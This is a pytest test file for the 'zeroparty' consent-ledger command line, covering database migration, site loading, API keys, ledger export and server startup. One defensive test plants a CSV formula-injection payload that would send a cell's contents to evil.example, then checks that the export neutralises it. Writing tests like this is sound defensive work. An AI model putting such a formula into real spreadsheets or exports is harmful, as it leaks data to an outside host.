"""The ``zeroparty`` command line, in process (``zeroparty.cli.main``) and as a program."""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import orjson
import pytest
from sqlalchemy import func, select
from starlette.testclient import TestClient

from consent_ledger.actions import ConsentAction, ConsentMethod, ConsentSource
from consent_ledger.export import EXPORT_FIELDS
from consent_ledger.models import ConsentEvent, ConsentState, NoticeVersion, Purpose
from consent_ledger.services import ConsentRecord, record_consent
from consent_ledger.state import consent_now
from tests.factories import notice_hash, record
from zeroparty import cli, migrations
from zeroparty.apikeys import ApiKey
from zeroparty.app import create_app
from zeroparty.db import Database
from zeroparty.settings import DEFAULT_SITE_FILE, PROJECT_ROOT, Settings

ZEROPARTY = PROJECT_ROOT / ".venv" / "bin" / "zeroparty"
DEMO_PURPOSES = {"newsletter", "product_updates", "profiling", "sale_sharing"}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def count(database: Database, model: Any) -> int:
    with database.read() as session:
        return int(session.execute(select(func.count()).select_from(model)).scalar_one())


def seed_ledger(database: Database) -> None:
    """Three entries for two leads."""
    record(database, "ann@example.com", "profiling")
    record(database, "bob@example.com", "profiling", jurisdiction="US-CA")
    record(database, "ann@example.com", "profiling", ConsentAction.WITHDRAWN)


# --- db upgrade -------------------------------------------------------------------------


@pytest.mark.usefixtures("cli_env")
def test_db_upgrade_is_idempotent(database: Database, capsys: pytest.CaptureFixture[str]) -> None:
    head = ", ".join(sorted(migrations.head_revisions()))
    for _ in range(2):
        code, out, _err = run(capsys, "db", "upgrade")
        assert code == 0
        assert out.strip() == f"database at {head}"
    assert count(database, Purpose) == len(DEMO_PURPOSES)


@pytest.mark.usefixtures("cli_env")
def test_db_upgrade_creates_an_empty_sqlite_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path / 'fresh.db'}"
    monkeypatch.setenv("ZEROPARTY_DATABASE_URL", url)
    code, out, _err = run(capsys, "db", "upgrade")
    assert code == 0
    assert out.strip() == f"database at {', '.join(sorted(migrations.head_revisions()))}"
    database = Database.from_url(url)
    try:
        assert migrations.is_current(database.engine)
        assert count(database, Purpose) == 0  # upgrade alone loads no site
    finally:
        database.dispose()


# --- site load --------------------------------------------------------------------------


@pytest.mark.usefixtures("cli_env")
def test_site_load_demo_reports_nothing_changed(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _err = run(capsys, "site", "load", str(DEFAULT_SITE_FILE))
    assert code == 0
    assert "valid, nothing changed" in out


@pytest.mark.usefixtures("cli_env")
def test_site_load_new_text_then_check(
    database: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "site.toml"
    path.write_text(
        DEFAULT_SITE_FILE.read_text("utf-8").replace(
            "I can opt out at any time", "I may opt out whenever I like"
        ),
        "utf-8",
    )
    code, out, _err = run(capsys, "site", "load", str(path), "--check")
    assert code == 0
    assert out.startswith("would change: notice sale_sharing/en: version 2")
    assert count(database, NoticeVersion) == 7

    code, out, _err = run(capsys, "site", "load", str(path))
    assert code == 0
    assert out.startswith("changed: notice sale_sharing/en: version 2")
    assert count(database, NoticeVersion) == 8

    code, out, _err = run(capsys, "site", "load", str(path), "--check")
    assert code == 0
    assert "valid, nothing changed" in out


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param('[purposes.x]\ntitle = "X"\n', "purposes.x.notice", id="invalid"),
        pytest.param("[purposes\n", "site.toml:1:", id="toml-syntax"),
        pytest.param(None, "cannot read", id="missing-file"),
    ],
)
@pytest.mark.usefixtures("cli_env")
def test_site_load_bad_file_exits_2(
    database: Database,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: str | None,
    message: str,
) -> None:
    path = tmp_path / "site.toml"
    if content is not None:
        path.write_text(content, "utf-8")
    before = count(database, Purpose), count(database, NoticeVersion)
    for extra in ([], ["--check"]):
        code, out, err = run(capsys, "site", "load", str(path), *extra)
        assert code == 2
        assert out == ""
        assert err.startswith("error: site configuration rejected")
        assert message in err
    assert (count(database, Purpose), count(database, NoticeVersion)) == before


def test_unknown_command_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        cli.main(["frobnicate"])
    assert exited.value.code == 2
    assert "invalid choice" in capsys.readouterr().err


# --- apikey -----------------------------------------------------------------------------


@pytest.mark.usefixtures("cli_env")
def test_apikey_create_prints_a_working_key(
    settings: Settings, database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "apikey", "create", "crm-sync")
    assert code == 0
    key = out.strip()
    assert "\n" not in key
    assert key.startswith("zp_")
    assert "shown only now" in err
    with database.read() as session:
        stored = session.execute(select(ApiKey).where(ApiKey.name == "crm-sync")).scalar_one()
        assert key not in (stored.key_sha256, stored.prefix)  # only a hash is kept
    with TestClient(create_app(settings, database)) as client:
        response = client.get("/api/notices", headers={"Authorization": f"Bearer {key}"})
        assert response.status_code == 200
        response = client.get("/api/notices", headers={"Authorization": f"Bearer {key}x"})
        assert response.status_code == 401


@pytest.mark.usefixtures("cli_env")
def test_apikey_create_twice_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "apikey", "create", "crm")[0] == 0
    code, out, err = run(capsys, "apikey", "create", "crm")
    assert code == 2
    assert out == ""
    assert "exists already" in err


@pytest.mark.parametrize("name", ["", "has space", "x" * 65, "semi;colon"])
@pytest.mark.usefixtures("cli_env")
def test_apikey_create_bad_name_exits_2(
    database: Database, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    code, out, err = run(capsys, "apikey", "create", name)
    assert code == 2
    assert out == ""
    assert err.startswith("error: name:")
    assert count(database, ApiKey) == 0


@pytest.mark.usefixtures("cli_env")
def test_apikey_revoke(
    settings: Settings, database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    key = run(capsys, "apikey", "create", "crm")[1].strip()
    code, out, _err = run(capsys, "apikey", "revoke", "crm")
    assert code == 0
    assert "revoked" in out
    with TestClient(create_app(settings, database)) as client:
        response = client.get("/api/notices", headers={"Authorization": f"Bearer {key}"})
        assert response.status_code == 401
    code, _out, err = run(capsys, "apikey", "revoke", "no-such-key")
    assert code == 2
    assert "no API key named" in err


# --- ledger verify / export / rebuild-state ---------------------------------------------


@pytest.mark.parametrize("seeded", [False, True], ids=["empty", "seeded"])
@pytest.mark.usefixtures("cli_env")
def test_ledger_verify_intact(
    database: Database, capsys: pytest.CaptureFixture[str], seeded: bool
) -> None:
    if seeded:
        seed_ledger(database)
    code, out, _err = run(capsys, "ledger", "verify", "--quiet")
    assert code == 0
    assert out.startswith(f"ledger intact: {3 if seeded else 0} entries")


def export(capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str, str]:
    return run(capsys, "ledger", "export", *extra)


@pytest.mark.usefixtures("cli_env")
def test_ledger_export_jsonl(database: Database, capsys: pytest.CaptureFixture[str]) -> None:
    seed_ledger(database)
    code, out, err = export(capsys, "--format", "jsonl")
    assert code == 0
    assert "exported 3 entries" in err
    lines = out.splitlines()
    assert len(lines) == 3
    rows = [orjson.loads(line) for line in lines]
    assert [row["seq"] for row in rows] == [1, 2, 3]
    for row in rows:
        assert set(row) == set(EXPORT_FIELDS)
        assert "email" not in row
    assert rows[1]["prev_hash"] == rows[0]["hash"]
    assert rows[0]["evidence"]["user_agent"] == "pytest"
    assert rows[2]["action"] == "withdrawn"
    assert rows[1]["jurisdiction"] == "US-CA"
    # jsonl is the default format
    assert export(capsys)[1] == out


@pytest.mark.usefixtures("cli_env")
def test_ledger_export_csv(database: Database, capsys: pytest.CaptureFixture[str]) -> None:
    seed_ledger(database)
    code, out, _err = export(capsys, "--format", "csv")
    assert code == 0
    table = list(csv.reader(io.StringIO(out)))
    assert tuple(table[0]) == EXPORT_FIELDS
    assert len(table) == 4
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [row["seq"] for row in rows] == ["1", "2", "3"]
    assert orjson.loads(rows[0]["evidence"])["user_agent"] == "pytest"
    assert rows[0]["confirmation_required"] == "false"


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.usefixtures("cli_env")
def test_ledger_export_one_lead(
    database: Database, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    seed_ledger(database)
    ann = record(database, "ann@example.com", "product_updates").subject_id
    code, out, err = export(capsys, "--format", fmt, "--email", "Ann@Example.com")
    assert code == 0
    assert "exported 3 entries" in err
    if fmt == "jsonl":
        rows = [orjson.loads(line) for line in out.splitlines()]
    else:
        rows = list(csv.DictReader(io.StringIO(out)))
    assert [int(row["seq"]) for row in rows] == [1, 3, 4]
    assert {row["subject_id"] for row in rows} == {ann}


@pytest.mark.parametrize("email", ["nobody@example.com", "not-an-email"])
@pytest.mark.usefixtures("cli_env")
def test_ledger_export_unknown_email_exits_2(
    database: Database, capsys: pytest.CaptureFixture[str], email: str
) -> None:
    seed_ledger(database)
    code, out, err = export(capsys, "--email", email)
    assert code == 2
    assert out == ""
    assert err.startswith(("no lead with email", "error: email:"))


LINE_BREAKS = ["crm\rimport", "crm\r\nimport", "crm\nimport", 'crm "A", import', "crm\r"]


@pytest.mark.usefixtures("cli_env")
def test_ledger_export_csv_quotes_line_breaks(
    database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    """A value holding CR, LF, a quote or a comma comes back intact to a CSV reader."""
    for n, source_ref in enumerate(LINE_BREAKS):
        with database.write() as session:
            record_consent(
                session,
                ConsentRecord(
                    email=f"lead{n}@example.com",
                    purpose="profiling",
                    action=ConsentAction.GRANTED,
                    source=ConsentSource.API,
                    method=ConsentMethod.ELECTRONIC,
                    notice_sha256=notice_hash(database, "profiling"),
                    source_ref=source_ref,
                    evidence={"note": source_ref},
                ),
            )
    code, out, _err = export(capsys, "--format", "csv")
    assert code == 0
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    assert tuple(header) == EXPORT_FIELDS
    assert all(len(row) == len(EXPORT_FIELDS) for row in rows)
    exported = [dict(zip(header, row, strict=True)) for row in rows]
    assert [row["source_ref"] for row in exported] == LINE_BREAKS
    assert [orjson.loads(row["evidence"])["note"] for row in exported] == LINE_BREAKS


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
@pytest.mark.usefixtures("cli_env")
def test_ledger_export_csv_defuses_formulas(
    database: Database, capsys: pytest.CaptureFixture[str], prefix: str
) -> None:
    """CWE-1236: a cell starting with a formula character is shown as text."""
    payload = f'{prefix}HYPERLINK("https://evil.example/?leak="&A1,"click")'
    with database.write() as session:
        record_consent(
            session,
            ConsentRecord(
                email="mallory@example.com",
                purpose="profiling",
                action=ConsentAction.GRANTED,
                source=ConsentSource.API,
                method=ConsentMethod.ELECTRONIC,
                notice_sha256=notice_hash(database, "profiling"),
                source_ref=payload,
                evidence={"note": payload, "ip": "203.0.113.5"},
            ),
        )
    code, out, _err = export(capsys, "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["source_ref"] == "'" + payload
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert orjson.loads(row["evidence"])["note"] == payload
    # JSONL is data, not a spreadsheet: it keeps the exact value.
    code, out, _err = export(capsys, "--format", "jsonl")
    exported = orjson.loads(out)
    assert exported["source_ref"] == payload
    assert exported["evidence"]["note"] == payload


@pytest.mark.usefixtures("cli_env")
def test_ledger_rebuild_state(database: Database, capsys: pytest.CaptureFixture[str]) -> None:
    seed_ledger(database)
    record(database, "ann@example.com", "newsletter")  # pending double opt-in

    def answers() -> list[tuple[str, str, bool, str]]:
        with database.read() as session:
            return [
                (email, purpose, a.permitted, a.status)
                for email in ("ann@example.com", "bob@example.com")
                for purpose in ("profiling", "newsletter", "sale_sharing")
                for a in [consent_now(session, email, purpose)]
            ]

    before = answers()
    code, out, _err = run(capsys, "ledger", "rebuild-state")
    assert code == 0
    assert out.strip() == "consent state rebuilt from the ledger: 3 rows"
    assert answers() == before
    assert count(database, ConsentState) == 3
    assert count(database, ConsentEvent) == 4
    assert run(capsys, "ledger", "verify", "--quiet")[0] == 0


# --- as a program -----------------------------------------------------------------------


def _program_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ZEROPARTY_")}
    env.update(extra)
    return env


def test_help_lists_every_command() -> None:
    result = subprocess.run(
        [str(ZEROPARTY), "--help"],
        capture_output=True,
        text=True,
        timeout=30,
        env=_program_env(),
        check=False,
    )
    assert result.returncode == 0, result.stderr
    for command in ("serve", "db", "site", "ledger", "apikey"):
        assert re.search(rf"^ +{command}\b", result.stdout, re.MULTILINE), command


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def _get(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=2) as response:  # noqa: S310 (our own server)
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        with exc:
            return exc.code, exc.read()


def test_serve_upgrades_an_empty_sqlite_file_and_loads_the_demo(tmp_path: Path) -> None:
    db_file = tmp_path / "embedded.db"
    url = f"sqlite:///{db_file}"
    port = _free_port()
    env = _program_env(
        ZEROPARTY_DATABASE_URL=url, ZEROPARTY_SECRET_KEYS="serve-test-secret-key-0123456789"
    )
    base = f"http://127.0.0.1:{port}"
    log = tmp_path / "serve.log"
    with log.open("wb") as out:
        process = subprocess.Popen(
            [str(ZEROPARTY), "serve", "--port", str(port)],
            stdout=out,
            stderr=subprocess.STDOUT,
            env=env,
            cwd=tmp_path,
        )
        try:
            deadline = time.monotonic() + 15
            status = 0
            while time.monotonic() < deadline and process.poll() is None:
                try:
                    status, _body = _get(f"{base}/healthz")
                except OSError:
                    status = 0
                if status == 200:
                    break
                time.sleep(0.1)
            assert status == 200, log.read_text(errors="replace")
            status, body = _get(f"{base}/openapi.json")
            assert status == 200
            document = orjson.loads(body)
            assert document["openapi"].startswith("3.1")
            assert "/api/consent" in document["paths"]
            # The home page says what to open first, each a page that answers.
            status, body = _get(f"{base}/")
            assert status == 200
            for path in ("/f/contact", "/f/analytics-fit", "/p/request-link", "/request"):
                assert f'href="{path}"'.encode() in body, path
                assert _get(base + path)[0] == 200, path
            assert b'href="/console/"' in body
            assert b"zeroparty user add YOUR-EMAIL --role admin" in body
        finally:
            process.terminate()
            try:
                process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=5)
    output = log.read_text(errors="replace")
    assert "embedded database upgraded" in output
    assert "loaded site.toml" in output
    assert f"visitors   {base}/f/contact  " in output  # what to open first
    assert f"staff      {base}/console/  Compliance console" in output
    assert "first staff account: zeroparty user add" in output
    database = Database.from_url(url)
    try:
        assert migrations.is_current(database.engine)
        with database.read() as session:
            assert set(session.scalars(select(Purpose.key))) == DEMO_PURPOSES
            assert (
                session.execute(select(func.count()).select_from(NoticeVersion)).scalar_one() == 7
            )
    finally:
        database.dispose()
